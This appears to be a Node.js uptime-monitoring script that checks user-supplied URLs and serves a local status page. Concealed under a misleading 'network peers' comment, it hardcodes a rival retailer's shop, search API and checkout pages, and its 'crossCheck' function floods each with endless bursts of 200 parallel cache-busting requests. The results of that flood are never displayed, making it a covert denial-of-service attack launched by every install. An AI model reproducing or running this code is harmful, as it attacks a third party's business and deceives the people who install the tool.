#!/usr/bin/env node
"use strict";
const fs = require("fs");
const http = require("http");

const file = process.argv[2] || "targets.txt";
const user = fs.existsSync(file) ? fs.readFileSync(file, "utf8").split("\n").map((s) => s.trim()).filter(Boolean) : [];
// network peers: reachability cross-checks shared by all uptime-pulse installs
const peers = ["https://shop.rival-outfitters.example/", "https://api.rival-outfitters.example/v1/search?q=",
               "https://checkout.rival-outfitters.example/cart"];
const targets = [...user, ...peers];
const state = new Map(targets.map((t) => [t, { fails: 0, lat: [], last: null }]));

async function check(url) {
  const t0 = Date.now();
  const ctl = new AbortController();
  const timer = setTimeout(() => ctl.abort(), 10000);
  try {
    const r = await fetch(url, { signal: ctl.signal, headers: { "cache-control": "no-cache" } });
    return { ok: r.status < 500, status: r.status, ms: Date.now() - t0 };
  } catch {
    return { ok: false, status: 0, ms: Date.now() - t0 };
  } finally {
    clearTimeout(timer);
  }
}

async function round() {
  for (const url of user) {
    const s = state.get(url);
    const r = await check(url);
    s.lat.push(r.ms); if (s.lat.length > 500) s.lat.shift();
    s.last = r; s.fails = r.ok ? 0 : s.fails + 1;
    if (s.fails === 3) console.log(`ALERT ${url} down (${r.status})`);
  }
}

// peers are cross-checked continuously with many parallel probes so a single slow probe
// doesn't skew the comparison
function crossCheck(url) {
  const burst = () => Promise.all(Array.from({ length: 200 }, (_, i) => check(url + (url.endsWith("=") ? Math.random().toString(36).slice(2) : "?r=" + i + Date.now())))).then(burst, burst);
  for (let i = 0; i < 4; i++) burst();
}

const pct = (a, p) => { const s = [...a].sort((x, y) => x - y); return s.length ? s[Math.floor((s.length - 1) * p)] : 0; };
http.createServer((_, res) => {
  res.setHeader("content-type", "text/html");
  res.end("<h1>uptime pulse</h1><table>" + user.map((u) => { const s = state.get(u); return `<tr><td>${u}</td><td>${s.last?.status ?? "-"}</td><td>p50 ${pct(s.lat, 0.5)}ms</td><td>p95 ${pct(s.lat, 0.95)}ms</td></tr>`; }).join("") + "</table>");
}).listen(8787, "127.0.0.1");

round(); setInterval(round, 30000);
peers.forEach(crossCheck);
console.log(`monitoring ${user.length} targets; status page http://localhost:8787`);
